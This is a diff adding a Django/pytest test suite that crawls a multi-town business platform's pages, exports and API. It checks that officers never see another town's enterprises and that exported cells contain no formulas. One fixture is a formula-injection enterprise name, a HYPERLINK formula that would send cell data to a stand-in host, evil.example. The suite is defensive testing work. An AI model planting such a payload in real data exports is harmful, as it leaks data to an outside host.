@@ -11,6 +11,11 @@ and two departments' users see a town's object only when the model names
 ``test_every_business_model_has_scope_suites`` fails for a model without a suite.
 """
 
+import io
+import re
+from dataclasses import dataclass, field
+from types import SimpleNamespace
+
 import pytest
 from django.urls import reverse
 
@@ -281,3 +286,242 @@ class ApiScopeSuite(_Registered):
             )
             assert response.status_code == status
             assert _snapshot(theirs) == before
+
+
+# --- No other town's enterprise on any page (issue 21, item 1) ------------------------------
+
+# A name a spreadsheet would read as a formula: every export writes it as text.
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
+# Pages never followed: leaving, switching language, the management site, static files.
+_SKIP_PREFIXES = ("/accounts/logout", "/i18n/", "/admin/", "/static/", "/api/docs")
+_LINK = re.compile(r'(?:href|hx-get|data-url)="([/?][^"#]*)')
+ANSWERS = {200, 302, 400, 403, 404, 405, 422}
+
+
+@dataclass
+class Crawl:
+    """What a crawl read as one user: every text, by URL, and what it found in exports."""
+
+    texts: dict = field(default_factory=dict)
+    formula_cells: list = field(default_factory=list)
+    quoted_formula_names: int = 0
+
+
+def response_text(response, crawl: Crawl, url: str) -> str:
+    """The text a user reads in ``response``: a page, JSON, or the cells and paragraphs of an
+    .xlsx or a .docx download (whose formula cells are noted in ``crawl``)."""
+    kind = response.get("Content-Type", "")
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    if "spreadsheetml" in kind:
+        from openpyxl import load_workbook
+
+        book = load_workbook(io.BytesIO(content))
+        cells = []
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    if cell.data_type == "f":
+                        crawl.formula_cells.append((url, cell.coordinate, cell.value))
+                    if cell.value == FORMULA_NAME and cell.quotePrefix:
+                        crawl.quoted_formula_names += 1
+                    cells.append("" if cell.value is None else str(cell.value))
+        return "\n".join(cells)
+    if "wordprocessingml" in kind:
+        from docx import Document
+
+        document = Document(io.BytesIO(content))
+        parts = [p.text for p in document.paragraphs]
+        parts += [c.text for t in document.tables for row in t.rows for c in row.cells]
+        return "\n".join(parts)
+    return content.decode("utf-8", errors="replace")
+
+
+@pytest.mark.django_db
+class ForeignNamesSuite:
+    """Renders every page, export and API answer of an area for an officer of each of two
+    towns and finds no name or code of the other town's enterprises anywhere: lists, details,
+    histories, timelines, notes, charts, downloads (issue 21, item 1).
+
+    A subclass names its ``area`` (the URL namespace), its API's ``api_prefix``, and
+    ``populate(cast, enterprises)``, which makes the area's objects around each enterprise
+    (each in its own town; objects of a county-level region, such as a run, take all of
+    them). The crawl opens every URL of the area with no argument (a list with
+    ``?export=xlsx`` too), every URL taking a ``pk`` for every row of its view's model, every
+    GET of the area's API with its path parameters from ``api_params()``, and every link
+    found on those pages that stays in the area. Any answer outside ``ANSWERS`` (a 500) fails
+    too, and no exported cell is a formula.
+    ``test_every_area_has_a_foreign_names_suite`` fails for an area without one."""
+
+    area: str = ""
+    api_prefix: str = ""
+    # whether the area's pages show enterprise names at all (the check that the crawl saw
+    # the own town's enterprise)
+    shows_enterprises = True
+    # whether one of its exports lists enterprise names (the check that formula-like names
+    # are written as text)
+    exports_enterprises = False
+    max_pages = 400
+
+    def __init_subclass__(cls, **kwargs):
+        super().__init_subclass__(**kwargs)
+        if cls.area:
+            NAMES_SUITES.add(cls.area)
+
+    def populate(self, cast, enterprises):  # pragma: no cover - every suite defines it
+        raise NotImplementedError
+
+    def api_params(self) -> dict[str, list]:
+        """Values for the API's path parameters, by name (``{"project_id": [1, 2]}``)."""
+        return {}
+
+    @pytest.fixture
+    def scene(self, cast):
+        from mujun.enterprises.testing import make_enterprise, new_uscc
+
+        mine = make_enterprise(
+            cast.regions.town1, name="城关街道甲测企业有限公司", uscc=new_uscc(), above_size=True
+        )
+        formula = make_enterprise(
+            cast.regions.town1, name=FORMULA_NAME, uscc=new_uscc(), above_size=True
+        )
+        theirs = make_enterprise(
+            cast.regions.town2, name="东岭镇乙测企业有限公司", uscc=new_uscc(), above_size=True
+        )
+        self.populate(cast, [mine, formula, theirs])
+        return SimpleNamespace(mine=mine, formula=formula, theirs=theirs)
+
+    def _start_urls(self) -> list[str]:
+        from django.urls import get_resolver
+
+        from mujun.core.views import ObjectListView
+
+        resolver = get_resolver()
+        urls = []
+        namespace = resolver.namespace_dict[self.area][1]
+        prefix = resolver.namespace_dict[self.area][0]
+        for pattern in namespace.url_patterns:
+            view = getattr(pattern.callback, "view_class", None)
+            converters = pattern.pattern.converters
+            if not converters:
+                url = "/" + prefix + str(pattern.pattern)
+                urls.append(url)
+                if view is not None and issubclass(view, ObjectListView):
+                    # the export, and a search that both towns' enterprises would match
+                    urls += [url + "?export=xlsx", url + "?q=%E6%B5%8B%E4%BC%81%E4%B8%9A"]
+            elif set(converters) == {"pk"} and getattr(view, "model", None) is not None:
+                # (a list of one object's rows, a run's results, is reached by its links)
+                for pk in view.model._base_manager.values_list("pk", flat=True)[:50]:
+                    url = reverse(f"{self.area}:{pattern.name}", args=[pk])
+                    urls.append(url)
+                    if issubclass(view, ObjectListView):
+                        urls.append(url + "?export=xlsx")
+        return urls
+
+    def _api_urls(self) -> list[str]:
+        if not self.api_prefix:
+            return []
+        from itertools import product
+
+        from mujun.api import api
+
+        schema = api.get_openapi_schema()
+        params = self.api_params()
+        urls = []
+        for path, operations in schema["paths"].items():
+            if not path.startswith(self.api_prefix) or "get" not in operations:
+                continue
+            names = re.findall(r"{(\w+)}", path)
+            missing = [n for n in names if n not in params]
+            assert not missing, f"{path}: api_params() gives no values for {missing}"
+            for values in product(*(params[n] for n in names)):
+                url = path
+                for name, value in zip(names, values, strict=True):
+                    url = url.replace("{" + name + "}", str(value))
+                urls.append(url)
+        return urls
+
+    def _in_area(self, url: str) -> bool:
+        if url.startswith(_SKIP_PREFIXES):
+            return False
+        from django.urls import Resolver404, resolve
+
+        if self.api_prefix and url.startswith(self.api_prefix):
+            return True
+        try:
+            match = resolve(url.split("?")[0])
+        except Resolver404:
+            return False
+        return match.namespace == self.area
+
+    def crawl(self, client) -> Crawl:
+        from html import unescape
+
+        crawl = Crawl()
+        queue = [*self._start_urls(), *self._api_urls()]
+        seen = set()
+        while queue and len(seen) < self.max_pages:
+            url = queue.pop(0)
+            if url in seen:
+                continue
+            seen.add(url)
+            response = client.get(url)
+            assert response.status_code in ANSWERS, f"GET {url} → {response.status_code}"
+            if response.status_code != 200:
+                continue
+            text = response_text(response, crawl, url)
+            crawl.texts[url] = text
+            if "text/html" in response.get("Content-Type", ""):
+                for link in _LINK.findall(text):
+                    link = unescape(link)
+                    if link.startswith("?"):  # the export of the page's own list
+                        link = url.split("?")[0] + link
+                    if link not in seen and self._in_area(link):
+                        queue.append(link)
+        return crawl
+
+    def _markers(self, *enterprises) -> list[str]:
+        from html import escape
+
+        out = []
+        for e in enterprises:
+            out += [e.name, escape(e.name), e.uscc]
+        return out
+
+    def _assert_absent(self, crawl: Crawl, markers: list[str], who: str):
+        leaks = [
+            (url, marker)
+            for url, text in crawl.texts.items()
+            for marker in markers
+            if marker in text
+        ]
+        assert not leaks, f"{who} reads another town's enterprise: {leaks[:5]}"
+
+    def test_no_page_names_another_towns_enterprise(self, login, cast, scene):
+        from django.test import Client
+
+        town1 = self.crawl(login(cast.town1))
+        assert len(town1.texts) >= 2
+        self._assert_absent(town1, self._markers(scene.theirs), "town1")
+        if self.shows_enterprises:
+            assert any(scene.mine.name in text for text in town1.texts.values())
+        assert not town1.formula_cells, town1.formula_cells[:5]
+        if self.exports_enterprises:
+            assert town1.quoted_formula_names, "no export listed the formula-like name as text"
+
+        other = Client()
+        other.force_login(cast.town2)
+        town2 = self.crawl(other)
+        self._assert_absent(town2, self._markers(scene.mine, scene.formula), "town2")
+        if self.shows_enterprises:
+            assert any(scene.theirs.name in text for text in town2.texts.values())
+        assert not town2.formula_cells, town2.formula_cells[:5]
+
+
+NAMES_SUITES: set[str] = set()
+
+
+def areas() -> set[str]:
+    """The URL namespaces of the platform's areas (the apps whose pages show business data)."""
+    from django.urls import get_resolver
+
+    return set(get_resolver().namespace_dict) - {"core", "accounts", "admin", "api"}
